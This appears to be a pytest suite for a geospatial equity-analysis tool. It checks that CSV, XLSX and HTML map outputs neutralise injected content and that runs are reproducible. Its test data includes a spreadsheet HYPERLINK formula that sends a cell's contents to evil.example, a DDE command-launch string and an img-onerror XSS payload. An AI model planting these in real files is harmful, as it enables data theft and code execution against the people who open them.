"""Outputs safe to open and the same bytes on every run (#19): no spreadsheet formulas from
text, no script from names in maps, stable map ids, METHODS.md without absolute input paths,
and the street grid's size estimated (and refused) before it is built."""

from __future__ import annotations

import csv
import hashlib
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from _browser import open_page, require_chromium

from equity import export, maps
from equity._cells import csv_safe, is_formula_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def _candidates() -> gpd.GeoDataFrame:
    n = len(HOSTILE) + 2
    return gpd.GeoDataFrame(
        {
            "rank": range(1, n + 1),
            "GEOID": [f"0100{i}" for i in range(n)],
            "NAME": [*HOSTILE, "Fairfax", "-3.2"],
            "state_GEOID": "01",
            "combined_score": np.linspace(-3.2, 90.0, n),
            "why": "a plain sentence",
        },
        geometry=[shapely.Point(-77 + i / 10, 38) for i in range(n)],
        crs=4326,
    )


def test_csv_cells_that_start_a_formula_are_quoted(tmp_path: Path) -> None:
    (path,) = export.write_candidates(_candidates(), tmp_path, formats=["csv"])
    with open(path, newline="", encoding="utf-8") as fh:
        back = pd.DataFrame(list(csv.DictReader(fh)))
    quoted = ["'" + h.replace("\r", "\n") for h in HOSTILE]  # a lone CR would end the row
    assert back["NAME"].tolist() == [*quoted, "Fairfax", "-3.2"]
    assert back["combined_score"].iloc[0] == "-3.2"  # numbers stay numbers
    assert not any(is_formula_text(v) for col in back for v in back[col])


def test_xlsx_cells_that_start_a_formula_are_text(tmp_path: Path) -> None:
    (path,) = export.write_candidates(_candidates(), tmp_path, formats=["xlsx"])
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    # the text itself (XML stores a carriage return as a line feed)
    for h in HOSTILE:
        assert h.replace("\r", "\n") in values, h
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets) and any("HYPERLINK" in s for s in sheets)
    numbers = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == -3.2]
    assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers


def test_csv_safe_leaves_numbers_and_plain_text() -> None:
    t = pd.DataFrame(
        {
            "a": ["=1", "x", None],
            "b": [-1.5, 2.0, 3.0],
            "c": pd.array(["@x", "y", None], dtype="string"),
        }
    )
    out = csv_safe(t)
    assert out["a"].tolist()[:2] == ["'=1", "x"] and pd.isna(out["a"].iloc[2])
    assert out["b"].equals(t["b"])
    assert out["c"].tolist()[:2] == ["'@x", "y"] and str(out["c"].dtype) == "string"
    assert t["a"].tolist()[:2] == ["=1", "x"]  # the input is not changed
    assert csv_safe(t.drop(columns=["a", "c"])) is not None


def _level() -> gpd.GeoDataFrame:
    cells = [shapely.box(-77 + i * 0.1, 38, -76.9 + i * 0.1, 38.1) for i in range(6)]
    return gpd.GeoDataFrame(
        {"GEOID": [f"5100{i}" for i in range(6)], "NAME": [f"Place {i}" for i in range(6)]},
        geometry=cells,
        crs=4326,
    )


NAME = "<img src=x onerror=alert(document.domain)>"


def _hostile_map(path: Path) -> Path:
    gdf = _level()
    gdf[NAME] = np.arange(6, dtype=float)
    return maps.save_map(maps.choropleth(gdf, NAME, title="<b>title</b>"), path)


def test_layer_names_are_escaped_in_the_layer_control(tmp_path: Path) -> None:
    html = _hostile_map(tmp_path / "m.html").read_text()
    assert "<img" not in html
    control = html.split("base_layers : {", 1)[1].split("}", 1)[0]
    assert "\\u0026lt;img" in control  # HTML-escaped text inside the JavaScript string


@pytest.mark.browser
def test_a_hostile_column_name_runs_nothing_in_a_browser(tmp_path: Path) -> None:
    require_chromium()
    path = _hostile_map(tmp_path / "m.html")
    with open_page(path) as view:
        assert view.dialogs == [] and view.page_errors == [] and view.external_requests == []
        assert view.evaluate("() => document.querySelectorAll('img[src=\"x\"]').length") == 0
        assert NAME in view.layer_names()  # shown as the text it is


def test_the_same_map_gives_the_same_bytes(tmp_path: Path) -> None:
    a = _hostile_map(tmp_path / "a.html").read_bytes()
    b = _hostile_map(tmp_path / "b.html").read_bytes()
    assert hashlib.sha256(a).hexdigest() == hashlib.sha256(b).hexdigest()
    assert b"map_00000000000000000000000000000001" in a


def test_grid_estimate_matches_h3s_own_cover() -> None:
    import h3

    from equity.checks import estimate_grid

    polys = [shapely.box(-77.2, 38.8, -77.0, 38.95), shapely.box(-122.5, 37.7, -122.35, 37.8)]
    gdf = gpd.GeoDataFrame(geometry=polys, crs=4326)
    for res in (8, 9, 10):
        exact = sum(
            len(h3.h3shape_to_cells(h3.geo_to_h3shape(p.__geo_interface__), res)) for p in polys
        )
        est = estimate_grid(gdf, res)
        assert est.cells == pytest.approx(exact, rel=0.1), (res, est.cells, exact)
    big = estimate_grid(gdf, 13)
    assert big.cells > 2000 * estimate_grid(gdf, 9).cells and big.bytes == big.cells * 400


def test_street_grid_refused_before_it_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    from equity import checks
    from equity.config import load_config
    from equity.errors import SizeError

    gdf = gpd.GeoDataFrame(geometry=[shapely.box(-78, 37, -76, 39)], crs=4326)
    cfg = load_config(sample=True, grid_resolution=13)
    with pytest.raises(SizeError, match=r"grid.resolution = 13: the street grid would have about"):
        checks._check_grid(gdf, cfg)
    checks._check_grid(gdf, cfg.replace(grid_max_cells=0))  # --force-size: no limit
    with pytest.raises(SizeError, match="max_cells = 10"):
        checks._check_grid(gdf, load_config(sample=True, grid_max_cells=10))
    # on Dask too: the workers hold a county each, but the client combines every cell
    with pytest.raises(SizeError, match="max_cells = 10"):
        checks._check_grid(gdf, load_config(sample=True, grid_max_cells=10, engine="dask"))
    monkeypatch.setattr(checks, "available_memory", lambda: 10**15)
    checks._check_grid(gdf, cfg)  # a machine large enough


@pytest.mark.slow
def test_methods_and_tables_the_same_from_a_cold_or_warm_cache(
    tmp_path: Path, sample_paths: dict[str, Path]
) -> None:
    from equity.cli import main

    keys = {
        "blockgroups": "blockgroup",
        "tracts": "tract",
        "counties": "county",
        "acs": "acs",
        "ookla": "ookla",
        "usage": "usage",
        "libraries": "libraries",
    }
    project = tmp_path / "project"
    data = project / "data"
    data.mkdir(parents=True)
    for name in keys.values():
        (data / sample_paths[name].name).write_bytes(sample_paths[name].read_bytes())
    cfg = project / "run.toml"
    cfg.write_text(
        "[data]\n"
        + "".join(f'{k} = "data/{sample_paths[v].name}"\n' for k, v in keys.items())
        + '[run]\nlevels = ["blockgroup", "tract", "county"]\n[placement]\nlevel = "county"\n'
        + f'[cache]\nfolder = "{tmp_path / "tables"}"\n'
    )
    outs = []
    for i in range(2):  # cold, then warm
        out = tmp_path / f"out{i}"
        assert main(["run", "--config", str(cfg), "--out", str(out), "--no-maps", "-q"]) == 0
        outs.append(out)
    for name in (
        "index_blockgroup.parquet",
        "index_tract.parquet",
        "index_county.parquet",
        "candidates.csv",
    ):
        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes(), name
    methods = (outs[0] / "METHODS.md").read_text()
    # no absolute path but in the command line as typed
    lines = [ln for ln in methods.splitlines() if str(tmp_path) in ln]
    assert all(ln.startswith("equity run --config") for ln in lines), lines
    assert "| data/acs2021_5yr_sample_blockgroup.csv |" in methods
    # the parameter table's [data] row names every input by its relative path
    assert "acs data/acs2021_5yr_sample_blockgroup.csv," in methods
